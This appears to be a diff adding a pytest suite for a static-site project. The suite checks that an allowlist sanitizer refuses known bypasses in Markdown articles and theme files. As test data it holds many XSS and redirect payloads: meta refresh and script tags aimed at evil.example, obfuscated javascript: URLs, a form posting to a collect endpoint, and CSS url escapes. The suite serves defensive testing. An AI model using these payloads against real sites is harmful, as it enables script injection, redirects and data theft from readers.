@@ -1,0 +1,225 @@
+"""Safety by allowlist: what an attacker writes in an article or the theme never reaches readers.
+
+Each class of bypass seen in the sources' old blocklist gets an article of its own in one copy
+of the project; `invoke check` and `invoke build` run there for real, once each, and every
+class must be named with its file and line while `output/` stays as it was.
+"""
+
+import hashlib
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from conftest import FIXTURE_CONTENT, ROOT
+
+PROJECT_FILES = ["tasks.py", "pelicanconf.py", "publishconf.py", "babel.cfg", "plugins", "press",
+                 "theme", "locale"]  # fmt: skip
+HEADER = """Title: {name}
+Date: 2024-03-01
+Author: FFHR Editorial Desk
+Category: Families
+Summary: An attack.
+
+"""
+EVIL = "https://evil.example"
+# name -> (Markdown body, text on the line the problem must be reported at)
+ARTICLE_ATTACKS = {
+    # A redirect hidden where the old check's parser and Markdown disagreed.
+    "comment-opened-and-closed-at-once": (
+        f'Text.\n\n<!--><meta http-equiv="refresh" content="0;url={EVIL}/a">-->\n',
+        f"{EVIL}/a",
+    ),
+    "comment-with-three-dashes": (
+        f'Text.\n\n<!---><meta http-equiv="refresh" content="0;url={EVIL}/b">-->\n',
+        f"{EVIL}/b",
+    ),
+    "cdata-section": (
+        f'Text.\n\n<![CDATA[ x ]]><meta http-equiv="refresh" content="0;url={EVIL}/c">\n',
+        f"{EVIL}/c",
+    ),
+    "code-span-with-unequal-backticks": (
+        f'Text ``code` <meta http-equiv="refresh" content="0;url={EVIL}/d"> end.\n',
+        f"{EVIL}/d",
+    ),
+    "indented-fence": (
+        f'Text.\n\n   ```python\n\n<meta http-equiv="refresh" content="0;url={EVIL}/e">\n\n   ```\n',
+        f"{EVIL}/e",
+    ),
+    "fence-never-closed": (
+        f'Text.\n\n```\n<meta http-equiv="refresh" content="0;url={EVIL}/f">\n',
+        f"{EVIL}/f",
+    ),
+    # What else the same tricks carried.
+    "referrer-policy-override": (
+        'Text.\n\n<!--><meta name="referrer" content="unsafe-url">-->\n',
+        "unsafe-url",
+    ),
+    "base-element": (f'Text.\n\n<!--><base href="{EVIL}/base/">-->\n', f"{EVIL}/base/"),
+    "svg-image-href": (
+        f'Text.\n\n<svg><image href="{EVIL}/svg.png" width="1" height="1"/></svg>\n',
+        f"{EVIL}/svg.png",
+    ),
+    "script": (f'Text.\n\n<![CDATA[ ]]><script src="{EVIL}/x.js"></script>\n', f"{EVIL}/x.js"),
+    # Markdown's own constructs that the old check never looked at.
+    "reference-link-definition": (
+        "A [link][r] to follow.\n\n[r]: javascript:alert(document.domain)\n",
+        "[r]: javascript:",
+    ),
+    "attribute-list-event-handler": ('A paragraph.\n{: onclick="alert(1)" }\n', "onclick"),
+    "attribute-list-href": ('[a link](/en/){: href="javascript:alert(1)" }\n', "{: href"),
+    "attribute-list-style": (
+        f'A paragraph.\n{{: style="background: url({EVIL}/style.png)" }}\n',
+        "style=",
+    ),
+    # URLs that mean something else to a browser than to a pattern.
+    "scheme-with-tab-entity": ('<a href="java&#x09;script:alert(1)">x</a>\n', "java&#x09;"),
+    "scheme-with-line-break": ('<a href="java\nscript:alert(1)">x</a>\n', 'href="java'),
+    "scheme-with-colon-entity": ('<a href="javascript&colon;alert(1)">x</a>\n', "&colon;"),
+    "scheme-with-leading-space-and-case": ('<a href=" JaVaScRiPt:alert(1)">x</a>\n', "JaVaScRiPt"),
+    "data-url-image": ("![A dot](data:image/png;base64,iVBORw0KGgo=)\n", "data:image"),
+    "backslash-host-image": ("![A photo](/\\evil.example/photo.png)\n", "evil.example"),
+    "backslashes-host-link": ('<a href="\\\\evil.example/page">x</a>\n', "evil.example"),
+    "protocol-relative-image": ('<img src="//evil.example/p.gif" alt="x">\n', "//evil.example"),
+    "form": (f'<form action="{EVIL}/collect"><input name="q"></form>\n', "<form"),
+    "iframe": (f'<iframe src="{EVIL}/embed"></iframe>\n', "<iframe"),
+    "uppercase-tag-and-unquoted-attribute": (
+        f"<IMG SRC={EVIL}/u.gif ALT=x>\n",
+        "<IMG SRC",
+    ),
+}
+
+
+def _snapshot(folder: Path) -> dict[str, str]:
+    return {
+        path.relative_to(folder).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
+        for path in sorted(folder.rglob("*"))
+        if path.is_file()
+    }
+
+
+def _invoke(project: Path, *args) -> subprocess.CompletedProcess:
+    # The project's own environment: the venv's Python, no PRIVATE_NAMES_FILE of this machine.
+    env = {k: v for k, v in os.environ.items() if k != "PRIVATE_NAMES_FILE"}
+    return subprocess.run(
+        [sys.executable, "-m", "invoke", *args],
+        cwd=project,
+        capture_output=True,
+        text=True,
+        env=env,
+        check=False,
+    )
+
+
+def project_copy(folder: Path) -> Path:
+    """A copy of the project's code, theme and catalogs, with the fixture content."""
+    folder.mkdir(parents=True, exist_ok=True)
+    for name in PROJECT_FILES:
+        source = ROOT / name
+        if source.is_dir():
+            ignore = shutil.ignore_patterns("*.mo", "__pycache__")
+            shutil.copytree(source, folder / name, ignore=ignore)
+        else:
+            shutil.copy2(source, folder / name)
+    shutil.copytree(FIXTURE_CONTENT, folder / "content")
+    return folder
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    """A project whose output/ was built clean, then every attack added and checked and built."""
+    project = project_copy(tmp_path_factory.mktemp("attacked"))
+    clean = _invoke(project, "build")
+    assert clean.returncode == 0, clean.stderr
+    before = _snapshot(project / "output")
+    lines = {}
+    for name, (body, marker) in ARTICLE_ATTACKS.items():
+        text = HEADER.format(name=name) + body
+        path = project / "content" / "en" / "articles" / f"attack-{name}.md"
+        path.write_text(text, encoding="utf-8")
+        lines[name] = next(n for n, line in enumerate(text.split("\n"), 1) if marker in line)
+    return {
+        "project": project,
+        "before": before,
+        "lines": lines,
+        "check": _invoke(project, "check"),
+        "build": _invoke(project, "build"),
+    }
+
+
+@pytest.mark.parametrize("name", ARTICLE_ATTACKS)
+@pytest.mark.parametrize("command", ["check", "build"])
+def test_every_bypass_is_refused_at_its_line(attacked, command, name):
+    """`invoke check` and `invoke build` exit non-zero naming the article and the line."""
+    result = attacked[command]
+    assert result.returncode == 1
+    where = f"content/en/articles/attack-{name}.md:{attacked['lines'][name]}: "
+    named = [line for line in result.stderr.splitlines() if line.startswith(where)]
+    assert named, f"nothing at {where} in:\n{result.stderr}"
+
+
+def test_a_refused_build_leaves_output_as_it_was(attacked):
+    """Nothing of a refused build is published: output/ has the same files, byte for byte."""
+    assert _snapshot(attacked["project"] / "output") == attacked["before"]
+    assert "output/ left as it was" in attacked["build"].stderr
+
+
+def test_the_problems_name_only_the_attacks(attacked):
+    """The fixture's own articles and pages are not reported: the allowlist admits them."""
+    for command in ("check", "build"):
+        reported = {
+            line.split(":", 1)[0]
+            for line in attacked[command].stderr.splitlines()
+            if line.startswith("content/")
+        }
+        assert reported == {f"content/en/articles/attack-{name}.md" for name in ARTICLE_ATTACKS}
+
+
+# What a template or a style sheet of the theme could slip into every page: the last gate
+# over published files refuses it, naming the output file and line.
+THEME_ATTACKS = {
+    "script": ("templates/base.html", "</footer>", '</footer><script>alert(1)</script>',
+               "<script> runs code in readers' browsers"),
+    "referrer-meta": ("templates/_head_meta.html", '<meta charset="utf-8">',
+                      '<meta charset="utf-8"><meta name="referrer" content="unsafe-url">',
+                      "<meta name=referrer> must say no-referrer"),
+    "refresh-meta": ("templates/_head_meta.html", '<meta charset="utf-8">',
+                     f'<meta charset="utf-8"><meta http-equiv="refresh" content="0;url={EVIL}">',
+                     "<meta http-equiv='refresh'>: not a value this site allows"),
+    "base-elsewhere": ("templates/base.html", "{% block base %}{% endblock %}",
+                       f'<base href="{EVIL}/">',
+                       f"<base href='{EVIL}/'> makes readers' browsers load it from {EVIL}"),
+    "prefetch": ("templates/base.html", "</head>", f'<link rel="prefetch" href="{EVIL}/"></head>',
+                 "<link rel='prefetch'>: not a value this site allows for rel"),
+    "event-handler": ("templates/base.html", '<body>', '<body onload="alert(1)">',
+                      "<body onload=...> is an event handler"),
+    "javascript-link": ("templates/base.html", "</footer>",
+                        '<a href="javascript:alert(1)">x</a></footer>',
+                        "<a href='javascript:alert(1)'> is a javascript: address"),
+    "css-escaped-url": ("static/css/site.css", "", f"body {{ background: u\\72l({EVIL}/c.png) }}\n",
+                        f"CSS '{EVIL}/c.png' makes readers' browsers load it from {EVIL}"),
+    "css-import": ("static/css/site.css", "", f'@import "{EVIL}/i.css";\n',
+                   f"CSS '{EVIL}/i.css' makes readers' browsers load it from {EVIL}"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", THEME_ATTACKS)
+def test_theme_attacks_are_refused_by_the_last_gate(tmp_path, name):
+    """A template or style sheet that writes what the page allowlist refuses stops the build."""
+    project = project_copy(tmp_path / "project")
+    file, old, new, message = THEME_ATTACKS[name]
+    path = project / "theme" / file
+    text = path.read_text(encoding="utf-8")
+    assert old in text
+    path.write_text(text.replace(old, new, 1) if old else new + text, encoding="utf-8")
+    result = _invoke(project, "build")
+    assert result.returncode == 1
+    assert not (project / "output").exists()
+    problems = [line for line in result.stderr.splitlines() if message in line]
+    assert problems, result.stderr
+    for problem in problems:
+        where, line = problem.split(":", 2)[:2]
+        assert where.startswith("output/") and int(line) > 0
